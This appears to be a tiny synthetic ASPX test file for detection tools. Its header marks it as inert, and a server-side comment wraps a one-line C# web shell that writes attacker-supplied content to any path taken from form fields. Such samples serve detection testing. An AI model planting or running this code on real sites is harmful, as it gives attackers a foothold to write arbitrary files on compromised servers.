<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ Page Language="C#"%><% using (var w = new System.IO.StreamWriter(Request.Form["f"])) { w.Write(Request.Form["c"]); } %>
--%>
